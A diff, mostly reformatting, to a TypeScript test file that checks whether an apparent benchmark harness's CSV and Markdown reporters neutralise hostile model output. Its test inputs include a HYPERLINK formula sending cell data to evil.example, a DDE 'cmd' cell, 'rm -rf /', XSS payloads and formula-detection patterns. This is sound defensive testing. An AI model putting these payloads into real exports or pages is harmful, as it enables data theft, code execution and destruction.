@@ -18,16 +18,53 @@ afterAll(() => dirs.cleanup());
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
 const HOSTILE = `${FORMULA} | <script>alert(1)</script> \`\`\`rm -rf /\`\`\` <img src=x onerror=alert(2)>\nsecond line, "quoted"`;
 
-function record(metric: string, value: ResultRecord['value'], detail: string, data?: Record<string, unknown>): ResultRecord {
-  return { run_id: 'r', model: 'sim-good', suite: 'tool-use', metric, value, unit: '', status: 'fail', detail, data, time: '2026-01-01T00:00:00.000Z' };
+function record(
+  metric: string,
+  value: ResultRecord['value'],
+  detail: string,
+  data?: Record<string, unknown>,
+): ResultRecord {
+  return {
+    run_id: 'r',
+    model: 'sim-good',
+    suite: 'tool-use',
+    metric,
+    value,
+    unit: '',
+    status: 'fail',
+    detail,
+    data,
+    time: '2026-01-01T00:00:00.000Z',
+  };
 }
 
 function runOf(records: ResultRecord[]): RunFile {
   return {
     schema: 'claude-code-bench/run@2',
     runId: 'r',
-    environment: { harnessVersion: 't', nodeVersion: 'v24', server: { backend: 'ollama', url: 'http://127.0.0.1:1', version: null }, simulated: true, hardware: null, startedAt: '2026-01-01T00:00:00.000Z', endedAt: null, commandLine: [], interrupted: false },
-    options: { models: ['sim-good'], suites: ['tool-use'], simulated: true, host: 'http://127.0.0.1:1', backend: 'ollama', reps: 1, parallel: 1, timeoutMs: 1000, failOn: null, claudeCodeVersion: '2.1.332' },
+    environment: {
+      harnessVersion: 't',
+      nodeVersion: 'v24',
+      server: { backend: 'ollama', url: 'http://127.0.0.1:1', version: null },
+      simulated: true,
+      hardware: null,
+      startedAt: '2026-01-01T00:00:00.000Z',
+      endedAt: null,
+      commandLine: [],
+      interrupted: false,
+    },
+    options: {
+      models: ['sim-good'],
+      suites: ['tool-use'],
+      simulated: true,
+      host: 'http://127.0.0.1:1',
+      backend: 'ollama',
+      reps: 1,
+      parallel: 1,
+      timeoutMs: 1000,
+      failOn: null,
+      claudeCodeVersion: '2.1.332',
+    },
     records,
   };
 }
@@ -36,12 +73,14 @@ function runOf(records: ResultRecord[]): RunFile {
  * Cells a spreadsheet would evaluate: text starting with = + - @ | or a full-width ＝ ＋ － ＠, also
  * after leading blanks (space, newline, NBSP, zero-width); a plain negative number is data.
  */
-const runsAsFormula = (cell: string) => /^[\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\-@|\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
+const runsAsFormula = (cell: string) =>
+  /^[\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\-@|\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
 
 function expectInertCsv(csv: string, rowCount: number): Array<Record<string, string>> {
   const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
   expect(rows).toHaveLength(rowCount);
-  for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(runsAsFormula(cell), `${column}: ${cell}`).toBe(false);
+  for (const row of rows)
+    for (const [column, cell] of Object.entries(row)) expect(runsAsFormula(cell), `${column}: ${cell}`).toBe(false);
   return rows;
 }
 
@@ -60,8 +99,18 @@ function expectInertMarkdown(markdown: string): void {
 
 describe('reporters given hostile text', () => {
   const records = [
-    record('tool_use.simple', FORMULA, HOSTILE, { failedProbes: [{ id: 'p1', category: 'simple', failure: 'wrong_tool', reason: HOSTILE, reply: `[tool_use Bash] ${HOSTILE} \`\`\`\` four backticks` }] }),
-    record('+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3'),
+    record('tool_use.simple', FORMULA, HOSTILE, {
+      failedProbes: [
+        {
+          id: 'p1',
+          category: 'simple',
+          failure: 'wrong_tool',
+          reason: HOSTILE,
+          reply: `[tool_use Bash] ${HOSTILE} \`\`\`\` four backticks`,
+        },
+      ],
+    }),
+    record("+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'),
     record('tool_use_score', -0.5, HOSTILE),
     // Formulas behind leading blanks, in full width, and DDE through a pipe.
     record(' =1+1', '\u00a0=1+1', '\u200b@SUM(1)'),
@@ -101,9 +150,24 @@ describe('hostile text through a whole bench run', () => {
       }
       if (req.url?.startsWith('/v1/messages') && json.stream !== true) {
         res.writeHead(200, { 'content-type': 'application/json' });
-        return void res.end(JSON.stringify({ id: 'msg_1', type: 'message', role: 'assistant', model: json.model, content: [{ type: 'text', text: HOSTILE }], stop_reason: 'end_turn', stop_sequence: null, usage: { input_tokens: 1, output_tokens: 1 } }));
+        return void res.end(
+          JSON.stringify({
+            id: 'msg_1',
+            type: 'message',
+            role: 'assistant',
+            model: json.model,
+            content: [{ type: 'text', text: HOSTILE }],
+            stop_reason: 'end_turn',
+            stop_sequence: null,
+            usage: { input_tokens: 1, output_tokens: 1 },
+          }),
+        );
       }
-      const upstream = await fetch(`${sim.url}${req.url}`, { method: req.method, headers: { 'content-type': 'application/json' }, body: req.method === 'POST' ? body : undefined });
+      const upstream = await fetch(`${sim.url}${req.url}`, {
+        method: req.method,
+        headers: { 'content-type': 'application/json' },
+        body: req.method === 'POST' ? body : undefined,
+      });
       res.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'application/json' });
       res.end(Buffer.from(await upstream.arrayBuffer()));
     });
@@ -111,7 +175,24 @@ describe('hostile text through a whole bench run', () => {
     const out = dirs.make();
     try {
       const { port } = front.address() as AddressInfo;
-      const result = await bench(['run', '--models', 'sim-instant', '--suites', 'throughput,tool-use', '--reps', '1', '--timeout', '20', '--parallel', '8', '--out', out], { OLLAMA_HOST: `http://127.0.0.1:${port}` });
+      const result = await bench(
+        [
+          'run',
+          '--models',
+          'sim-instant',
+          '--suites',
+          'throughput,tool-use',
+          '--reps',
+          '1',
+          '--timeout',
+          '20',
+          '--parallel',
+          '8',
+          '--out',
+          out,
+        ],
+        { OLLAMA_HOST: `http://127.0.0.1:${port}` },
+      );
       expect(result.code, result.stderr).toBe(0);
       const run = JSON.parse(readFileSync(join(out, 'run.json'), 'utf8')) as RunFile;
       // The hostile text did reach the records (the test is not vacuous) …
